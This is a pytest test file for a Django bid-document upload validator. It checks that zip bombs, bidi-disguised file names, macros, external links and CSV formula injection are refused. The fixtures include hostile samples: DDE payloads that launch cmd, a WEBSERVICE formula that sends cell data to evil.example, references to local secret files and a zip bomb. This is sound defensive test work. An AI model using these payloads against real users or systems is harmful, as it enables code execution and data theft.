"""Hostile uploads: office files that expand far beyond their size (zip bombs), names that disguise themselves
with control or bidi-override characters, macros, spreadsheets linking to other files or programs, and CSV
files holding formulas. A spreadsheet's own formulas are allowed and marked on every page that offers it."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from bids.documents import MAX_UNCOMPRESSED_BYTES, clean_file_name, document_check
from bids.models import BidDocument
from core.exceptions import ApplicationError
from tests.factories.documents import docx, ods, xlsx, xlsx_with_formula, zipped

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


DDE_CELL = (
    b'<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)">'
    b"<office:dde-source/></table:table-cell>"
)


def upload(client, bid, name: str, content: bytes):
    return client.post(
        reverse("bids:documents", kwargs={"reference": bid.reference}), {"file": SimpleUploadedFile(name, content)}
    )


def check(name: str, content: bytes):
    return document_check(name=name, size=len(content), stream=io.BytesIO(content))


def test_a_small_docx_that_expands_to_200_mb_is_refused(draft, lead_user, client, private_media):
    bomb = docx(**{"word/media/padding.xml": b"\0" * (200 * 1024 * 1024)})
    assert len(bomb) < 300 * 1024
    client.force_login(lead_user)
    response = upload(client, draft, "report.docx", bomb)
    assert response.status_code == 400
    assert "would expand to 200 MB when opened" in response.content.decode()
    assert not BidDocument.objects.exists()
    assert not [path for path in Path(private_media).rglob("*") if path.is_file()]


def test_a_high_compression_ratio_is_refused_even_under_the_size_limit():
    # 30 MB of zeros in about 30 KB: no ordinary document is compressed a thousand times.
    with pytest.raises(ApplicationError, match="less than 100 times its size"):
        check("notes.docx", docx(**{"word/padding.xml": b"\0" * (30 * 1024 * 1024)}))


def test_an_entry_that_lies_about_its_size_is_refused_as_damaged():
    honest = docx()
    data = bytearray(honest)
    # Corrupt a stored part's content so its CRC no longer matches what it declares.
    content = zipped(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document>hello</w:document>"},
        compression=zipfile.ZIP_STORED,
    )
    data = bytearray(content)
    index = data.index(b"hello")
    data[index : index + 5] = b"HELLO"
    with pytest.raises(ApplicationError, match="damaged"):
        check("letter.docx", bytes(data))


def test_ordinary_office_files_within_bounds_are_accepted():
    text = b"<w:document>" + b"<w:p>Shared repairs front door</w:p>" * 2000 + b"</w:document>"
    assert check("letter.docx", docx(**{"word/document.xml": text})).kind.extension == "docx"
    assert MAX_UNCOMPRESSED_BYTES == 100 * 1024 * 1024


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("report\u202eexe.pdf", "reportexe.pdf"),
        ("report\u202egpj.exe\u202c.pdf", "reportgpj.exe.pdf"),
        ("plan\u200b\u2066.pdf", "plan.pdf"),
        ("bad\x00name\x1b[31m.pdf", "badname[31m.pdf"),
        ("  line\nbreak\tand\u00a0spaces .pdf", "line break and spaces.pdf"),
        ("C:\\Users\\me\\plan.pdf", "plan.pdf"),
        ("\u202e.pdf", "document.pdf"),
        ("café.pdf", "café.pdf"),
    ],
)
def test_file_names_lose_control_and_bidi_override_characters(typed, shown):
    assert clean_file_name(typed) == shown


def test_a_bidi_disguised_name_is_stored_and_served_cleaned(draft, lead_user, client):
    client.force_login(lead_user)
    assert upload(client, draft, "report\u202eexe.pdf", PDF).status_code == 302
    document = BidDocument.objects.get()
    assert document.original_name == "reportexe.pdf"
    response = client.get(reverse("bids:document", kwargs={"reference": draft.reference, "document_id": document.pk}))
    assert "\u202e" not in response["Content-Disposition"]
    assert "reportexe.pdf" in response["Content-Disposition"]


def test_a_disguised_name_cannot_smuggle_another_extension():
    # Without the override the name ends in .exe: refused as not an allowed type.
    with pytest.raises(ApplicationError, match="must be a PDF"):
        check("report\u202efdp.exe", PDF)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "data.csv",
            b'council,amount\nBristol,=HYPERLINK("http://x")\n',
            "Row 2 of the CSV file has a formula (a cell starting with =)",
        ),
        (
            "data.csv",
            b"a,b\n1,2\n@SUM(1+1)*cmd|' /C calc'!A0,3\n",
            "Row 3 of the CSV file has a formula (a cell starting with @)",
        ),
        ("data.csv", b"a\n+cmd|' /C calc'!A0\n", "cell starting with +"),
        ("data.csv", b"a\n-2+3+cmd|' /C calc'!A0\n", "cell starting with -"),
        ("data.csv", b'a\n"  =1+1"\n', "cell starting with ="),
        ("data.csv", b"a;b\n1;=1+1\n", "cell starting with ="),
        # Rows ending in a carriage return only (old Mac spreadsheets), or in a mixture, are read too.
        ("data.csv", b"a,b\r=1+2,3\r", "Row 2 of the CSV file has a formula (a cell starting with =)"),
        ("data.csv", b"a,b\r\n1,2\r=3,4\n", "Row 3 of the CSV file has a formula (a cell starting with =)"),
        # Read in the encoding Excel saved it in: Windows-1252, or UTF-16 (here tab-separated, as "Unicode Text").
        ("budget.csv", "Item,Cost\r\nCafé,=1+2\r\n".encode("cp1252"), "Row 2 of the CSV file has a formula"),
        ("budget.csv", "Item\tCost\r\n£\t@SUM(1)\r\n".encode("utf-16"), "Row 2 of the CSV file has a formula"),
        ("budget.csv", "Item\tCost\r\nx\t+cmd|' /C calc'!A0\r\n".encode("utf-16"), "cell starting with +"),
        # A file the csv module cannot read is refused with the row, never a server error.
        ("data.csv", b"a,b\n" + b"x" * 140_000 + b",1\n", "Row 2 of the CSV file cannot be read"),
        ("data.csv", b'a,b\n1,2\n"' + b"y" * 140_000 + b'",1\n', "Row 3 of the CSV file cannot be read"),
        ("budget.xlsx", xlsx(**{"xl/vbaProject.bin": b"\0vba"}), "contains macros"),
        ("letter.docx", docx(**{"word/vbaProject.bin": b"\0vba"}), "contains macros"),
        (
            "budget.xlsx",
            xlsx(**{"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}),
            "links to other files or programs",
        ),
        (
            "budget.ods",
            ods(DDE_CELL),
            "links to other files or programs",
        ),
        ("budget.ods", ods(**{"Basic/Standard/Module1.xml": b"<script/>"}), "contains macros"),
        # Formulas that reach outside the workbook, with no external-link part to give them away.
        *(
            (
                "budget.xlsx",
                xlsx(
                    f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f><v>0</v></c></row>'
                    "</sheetData></worksheet>".encode()
                ),
                "links to other files or programs",
            )
            for formula in (
                "cmd|&apos; /C calc&apos;!A0",
                "SUM(1+1)*cmd|' /C calc'!A0",
                "&apos;C:\\secret\\[book.xlsx]Sheet1&apos;!A1",
                "[1]Sheet1!A1",
                "_xlfn.WEBSERVICE(&quot;http://evil.example/?&quot;&amp;B1)",
                "RTD(&quot;prog.id&quot;,,&quot;x&quot;)",
            )
        ),
        (
            "budget.xlsx",
            xlsx(
                **{
                    "xl/workbook.xml": b"<workbook><definedNames><definedName name='x'>[1]Sheet1!$A$1"
                    b"</definedName></definedNames></workbook>"
                }
            ),
            "links to other files or programs",
        ),
        (
            "budget.ods",
            ods(b'<table:table-cell table:formula="of:=[&apos;file:///C:/secret.ods&apos;#$Sheet1.A1]"/>'),
            "links to other files or programs",
        ),
    ],
)
def test_formula_injection_macros_and_external_links_are_refused(draft, lead_user, client, name, content, message):
    client.force_login(lead_user)
    response = upload(client, draft, name, content)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not BidDocument.objects.exists()


@pytest.mark.parametrize(
    "content",
    [
        b"council,amount,phone\nBristol,-250,+44 (0)117 922 2000\nBath,-1,000.50,0117\n",
        "name,note\nSam,Café - hello\n".encode(),
        b"a,b\r1,2\r3,4\r",
        b"a,b\r\n1,2\r3,4\n",
    ],
)
def test_csv_numbers_and_phone_numbers_with_signs_are_not_formulas(content):
    assert check("data.csv", content).has_formulas is False


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A3)*1.2",
        "SUM(Table1[Amount])+Sheet2!A1",
        "Table1[[#This Row],[Cost]]*2",
        "&apos;Staff costs&apos;!B4+B5",
        "IF(A1=&quot;a|b [1]x!&quot;,1,0)",  # the signs of an outside reference, inside a string
        "CONCAT(&quot;call(&quot;,A1)",
    ],
)
def test_a_spreadsheets_own_formulas_are_taken_and_marked(formula):
    assert check("budget.xlsx", xlsx_with_formula(formula)).has_formulas is True


def test_spreadsheet_formulas_are_allowed_and_marked_on_every_page_that_offers_the_file(draft, lead_user, client):
    client.force_login(lead_user)
    with_formulas = xlsx(
        b"<worksheet><sheetData><row><c r='A3'><f>SUM(A1:A2)</f><v>3</v></c></row></sheetData></worksheet>"
    )
    assert upload(client, draft, "budget.xlsx", with_formulas).status_code == 302
    assert (
        upload(
            client,
            draft,
            "plain.ods",
            ods(b"<office:document-content><table:table-cell office:value='3'/></office:document-content>"),
        ).status_code
        == 302
    )
    assert (
        upload(client, draft, "sums.ods", ods(b'<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>')).status_code
        == 302
    )
    marked = dict(BidDocument.objects.values_list("original_name", "has_formulas"))
    assert marked == {"budget.xlsx": True, "plain.ods": False, "sums.ods": True}
    page = client.get(reverse("bids:documents", kwargs={"reference": draft.reference})).content.decode()
    assert page.count("Contains formulas</strong>") == 2
    check_page = client.get(reverse("bids:check", kwargs={"reference": draft.reference})).content.decode()
    assert check_page.count("Contains formulas</strong>") == 2
